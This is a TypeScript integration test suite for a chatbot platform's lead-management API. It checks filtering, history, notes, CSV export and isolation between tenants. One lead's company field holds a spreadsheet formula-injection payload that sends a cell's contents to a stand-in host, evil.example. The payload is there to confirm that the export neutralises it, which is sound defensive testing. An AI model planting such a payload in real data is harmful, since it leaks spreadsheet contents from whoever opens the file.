import assert from 'node:assert/strict';
import type {
  AuthResponse,
  BotView,
  LeadDetail,
  LeadEventView,
  LeadsResponse,
  LeadView,
} from '@chatbot/shared';
import { Lead, LeadEvent, runAsSystem } from '@chatbot/shared/platform';
import { forEachDialect } from '@chatbot/shared/testing';
import { buildBot, buildTenant } from '../../testing/factories';
import { startConversation } from '../../testing/chat-clients';
import { startTestServer, type TestServer } from '../../testing/test-server';
import { captureOverRest, sayOverRest, waitForLead } from './lead-fixtures';

const hostileCompany = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const quotedCompany = 'The "Best" Co, Ltd\nsecond line';

forEachDialect('lead management API', (dialect) => {
  let server: TestServer;
  let owner: AuthResponse;
  let agent: AuthResponse;
  let stranger: AuthResponse;
  let shop: BotView;
  let help: BotView;
  /** Oldest first: ada (shop), bob (shop), carol (help). */
  let leads: LeadView[];
  let adaConversation: string;

  const get = <T = unknown>(path: string, token = owner.accessToken) => server.api.get<T>(path, token);
  const list = (query: string, token = owner.accessToken) => get<LeadsResponse>(`/api/leads${query}`, token);
  const emails = (response: { body: LeadsResponse }) => response.body.leads.map((lead) => lead.email);
  const exportCsv = (query = '', token = owner.accessToken) =>
    fetch(`${server.url}/api/leads/export.csv${query}`, { headers: { authorization: `Bearer ${token}` } });
  const history = (leadId: string) =>
    runAsSystem('test', () => server.platform.orm.em.fork().find(LeadEvent, { lead: leadId }));

  /** A visitor who chats with the bot and leaves details; resolves once the lead is scored. */
  async function lead(bot: BotView, messages: string[], details: Record<string, unknown>) {
    const visitor = await startConversation(server.api, bot.id);
    for (const message of messages) await sayOverRest(server, bot.id, visitor, message);
    const captured = await captureOverRest(server, visitor, details);
    assert.equal(captured.status, 201, JSON.stringify(captured.body));
    await waitForLead(server, captured.body.leadId, (row) => row.summary !== null);
    return visitor.conversationId;
  }

  before(async () => {
    server = await startTestServer({ dialect });
    owner = await buildTenant(server.api);
    stranger = await buildTenant(server.api);
    const invited = await server.api.post<{ token: string }>(
      '/api/users/invitations',
      { email: `agent-${dialect}@example.com`, role: 'agent' },
      owner.accessToken,
    );
    agent = (
      await server.api.post<AuthResponse>('/api/auth/accept-invitation', {
        token: invited.body.token,
        name: 'Dana Agent',
        password: 'a long enough password',
      })
    ).body;
    const published = { status: 'published' as const, rateLimits: { perIpPerMinute: 1000, perMinute: 1000 } };
    shop = await buildBot(server.api, owner.accessToken, { ...published, name: 'Shop' });
    help = await buildBot(server.api, owner.accessToken, { ...published, name: 'Help' });
    adaConversation = await lead(shop, ['I want to buy 30 seats', 'Do you offer SSO?'], {
      email: 'ada@example.com',
      name: 'Ada Lovelace',
      company: hostileCompany,
      phone: '+44 20 7946 0000',
      consent: true,
    });
    await lead(shop, ['What is the price?'], { email: 'bob@example.com', company: quotedCompany });
    await lead(help, [], { email: 'carol@example.com', name: 'Carol' });
    leads = (await list('')).body.leads.reverse();
  });
  after(() => server.stop());

  it('lists the tenant’s leads newest first, with their scores, paged', async () => {
    const all = await list('');
    assert.equal(all.status, 200);
    assert.deepEqual(emails(all), ['carol@example.com', 'bob@example.com', 'ada@example.com']);
    assert.equal(all.body.total, 3);
    const ada = all.body.leads[2]!;
    assert.equal(ada.company, hostileCompany);
    assert.equal(ada.status, 'new');
    assert.ok(ada.score > leads[1]!.score && leads[1]!.score > leads[2]!.score, 'scores are not ordered');
    assert.match(ada.summary!, /^Stated need: “I want to buy 30 seats”/);

    const first = await list('?limit=2');
    const rest = await list('?limit=2&offset=2');
    assert.deepEqual([emails(first), first.body.total], [['carol@example.com', 'bob@example.com'], 3]);
    assert.deepEqual([emails(rest), rest.body.total], [['ada@example.com'], 3]);
  });

  it('filters by bot, score, text, dates and status, and refuses bad filters', async () => {
    assert.deepEqual(emails(await list(`?botId=${help.id}`)), ['carol@example.com']);
    assert.deepEqual(emails(await list(`?minScore=${leads[1]!.score}`)), [
      'bob@example.com',
      'ada@example.com',
    ]);
    assert.deepEqual(emails(await list('?search=LOVELACE')), ['ada@example.com']);
    assert.deepEqual(emails(await list('?search=best%22%20co')), ['bob@example.com']);
    assert.deepEqual(emails(await list('?search=carol%40')), ['carol@example.com']);
    assert.deepEqual(emails(await list('?search=50%25')), []);
    const from = encodeURIComponent(leads[1]!.createdAt);
    const to = encodeURIComponent(leads[1]!.createdAt);
    assert.deepEqual(emails(await list(`?from=${from}`)), ['carol@example.com', 'bob@example.com']);
    assert.deepEqual(emails(await list(`?to=${to}`)), ['bob@example.com', 'ada@example.com']);
    assert.deepEqual(emails(await list('?status=converted')), []);
    for (const query of ['?minScore=101', '?status=won', '?botId=nope', '?from=yesterday', '?colour=red']) {
      const refused = await list(query);
      assert.equal(refused.status, 400, query);
      assert.equal((refused.body as unknown as { error: { code: string } }).error.code, 'validation_failed');
    }
  });

  it('shows a lead with its conversation’s transcript and its history', async () => {
    const ada = leads[0]!;
    const detail = await get<LeadDetail>(`/api/leads/${ada.id}`);
    assert.equal(detail.status, 200);
    assert.equal(detail.body.lead.conversationId, adaConversation);
    const visitorSaid = detail.body.messages.filter((m) => m.role === 'visitor').map((m) => m.content);
    assert.deepEqual(visitorSaid, ['I want to buy 30 seats', 'Do you offer SSO?']);
    assert.ok(detail.body.messages.some((m) => m.role === 'bot'));
    assert.equal(detail.body.history.length, 1);
    assert.equal(detail.body.history[0]!.kind, 'captured');
    assert.equal(detail.body.history[0]!.authorName, null);
  });

  it('changes status and assignee with one history entry per change, by its author', async () => {
    const bob = leads[1]!;
    const changed = await server.api.patch<LeadView>(
      `/api/leads/${bob.id}`,
      { status: 'contacted', assigneeId: agent.user.id },
      owner.accessToken,
    );
    assert.equal(changed.status, 200, JSON.stringify(changed.body));
    assert.deepEqual(
      [changed.body.status, changed.body.assigneeId, changed.body.assigneeName],
      ['contacted', agent.user.id, 'Dana Agent'],
    );
    // The agent works the lead too: qualifies it and hands it back to nobody.
    const byAgent = await server.api.patch<LeadView>(
      `/api/leads/${bob.id}`,
      { status: 'qualified', assigneeId: null },
      agent.accessToken,
    );
    assert.deepEqual([byAgent.body.status, byAgent.body.assigneeId], ['qualified', null]);
    // Setting what is already set writes nothing.
    const same = await server.api.patch(`/api/leads/${bob.id}`, { status: 'qualified' }, owner.accessToken);
    assert.equal(same.status, 200);

    const detail = await get<LeadDetail>(`/api/leads/${bob.id}`);
    const changes = detail.body.history
      .filter((entry) => entry.kind !== 'captured')
      .map((entry: LeadEventView) => [entry.kind, entry.authorName, entry.oldValue, entry.newValue]);
    assert.deepEqual(changes, [
      ['status', owner.user.name, 'new', 'contacted'],
      ['assignee', owner.user.name, null, agent.user.id],
      ['status', 'Dana Agent', 'contacted', 'qualified'],
      ['assignee', 'Dana Agent', agent.user.id, null],
    ]);
    const assigned = detail.body.history.find((entry) => entry.kind === 'assignee')!;
    assert.deepEqual([assigned.oldName, assigned.newName], [null, 'Dana Agent']);
    assert.deepEqual(emails(await list('?status=qualified')), ['bob@example.com']);
  });

  it('refuses an assignee of another tenant or an empty change, writing nothing', async () => {
    const carol = leads[2]!;
    const before = (await history(carol.id)).length;
    const foreign = await server.api.patch(
      `/api/leads/${carol.id}`,
      { status: 'contacted', assigneeId: stranger.user.id },
      owner.accessToken,
    );
    assert.equal(foreign.status, 404);
    assert.equal(foreign.body.error.code, 'not_found');
    const empty = await server.api.patch(`/api/leads/${carol.id}`, {}, owner.accessToken);
    assert.equal(empty.status, 400);
    const unknown = await server.api.patch(`/api/leads/${carol.id}`, { score: 100 }, owner.accessToken);
    assert.equal(unknown.status, 400);
    const lead = await runAsSystem('test', () => server.platform.orm.em.fork().findOneOrFail(Lead, carol.id));
    assert.deepEqual([lead.status, lead.assignee], ['new', null]);
    assert.equal((await history(carol.id)).length, before);
  });

  it('adds notes with their author, last in the history', async () => {
    const ada = leads[0]!;
    const note = await server.api.post<LeadEventView>(
      `/api/leads/${ada.id}/notes`,
      { text: '  Called her; wants a quote by Friday.  ' },
      agent.accessToken,
    );
    assert.equal(note.status, 201, JSON.stringify(note.body));
    assert.deepEqual(
      [note.body.kind, note.body.text, note.body.authorId, note.body.authorName],
      ['note', 'Called her; wants a quote by Friday.', agent.user.id, 'Dana Agent'],
    );
    const detail = await get<LeadDetail>(`/api/leads/${ada.id}`);
    assert.deepEqual(detail.body.history.at(-1), note.body);
    assert.equal(
      (await server.api.post(`/api/leads/${ada.id}/notes`, { text: '  ' }, owner.accessToken)).status,
      400,
    );
  });

  it('exports the filtered leads as RFC 4180 CSV, with formulas neutralised', async () => {
    const response = await exportCsv();
    assert.equal(response.status, 200);
    assert.match(response.headers.get('content-type')!, /^text\/csv; charset=utf-8/);
    assert.match(
      response.headers.get('content-disposition')!,
      /^attachment; filename="?leads-\d{4}-\d{2}-\d{2}\.csv"?$/,
    );
    const csv = await response.text();
    const lines = csv.split('\r\n');
    assert.equal(
      lines[0],
      'id,created_at,bot_id,bot_name,conversation_id,email,name,phone,company,consent,consent_at,status,score,score_reasons,summary,assignee',
    );
    assert.equal(lines.at(-1), '', 'the last line is not CRLF-ended');
    assert.ok(csv.includes(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`), csv);
    assert.ok(csv.includes(`,'+44 20 7946 0000,`), 'a phone number starting with + is a formula too');
    assert.ok(csv.includes(`,"The ""Best"" Co, Ltd\nsecond line",`), csv);
    assert.ok(!/,=|,\+|,-|,@/.test(csv.replace(/"[^"]*"/g, '')), 'an unquoted cell starts a formula');

    const shopOnly = await (await exportCsv(`?botId=${shop.id}&minScore=1`)).text();
    assert.deepEqual(
      shopOnly.split('\r\n').filter((line, i) => i > 0 && /@example\.com/.test(line)).length,
      2,
    );
    assert.ok(!shopOnly.includes('carol@example.com'));
    assert.ok(shopOnly.includes(',Shop,'));
    assert.equal((await exportCsv('?minScore=-1')).status, 400);
  });

  it('shows another tenant nothing: 404 on every route with these ids, an empty list and export', async () => {
    const ada = leads[0]!;
    const token = stranger.accessToken;
    const before = await history(ada.id);
    const answers = await Promise.all([
      get(`/api/leads/${ada.id}`, token),
      server.api.patch(`/api/leads/${ada.id}`, { status: 'converted' }, token),
      server.api.post(`/api/leads/${ada.id}/notes`, { text: 'mine now' }, token),
    ]);
    assert.deepEqual(
      answers.map((answer) => [answer.status, answer.body.error.code]),
      [
        [404, 'not_found'],
        [404, 'not_found'],
        [404, 'not_found'],
      ],
    );
    const theirs = await list('', token);
    assert.deepEqual([theirs.body.leads, theirs.body.total], [[], 0]);
    assert.deepEqual((await list(`?botId=${shop.id}`, token)).body.total, 0);
    const csv = await (await exportCsv('', token)).text();
    assert.equal(csv.split('\r\n').length, 2, csv);
    const unchanged = await runAsSystem('test', () =>
      server.platform.orm.em.fork().findOneOrFail(Lead, ada.id),
    );
    assert.equal(unchanged.status, 'new');
    assert.equal((await history(ada.id)).length, before.length);
    // And nobody without a token gets anything.
    assert.equal((await server.api.get('/api/leads')).status, 401);
    assert.equal((await exportCsv('', 'not-a-token')).status, 401);
  });
  it('keeps the history of a user who is removed, without its author', async () => {
    const ada = leads[0]!;
    await server.api.post(`/api/leads/${ada.id}/notes`, { text: 'Before leaving.' }, agent.accessToken);
    const removed = await server.api.delete(`/api/users/${agent.user.id}`, owner.accessToken);
    assert.equal(removed.status, 204, JSON.stringify(removed.body));
    const detail = await get<LeadDetail>(`/api/leads/${ada.id}`);
    const note = detail.body.history.find((event) => event.text === 'Before leaving.');
    assert.deepEqual([note?.authorId, note?.authorName], [null, null]);
  });
});
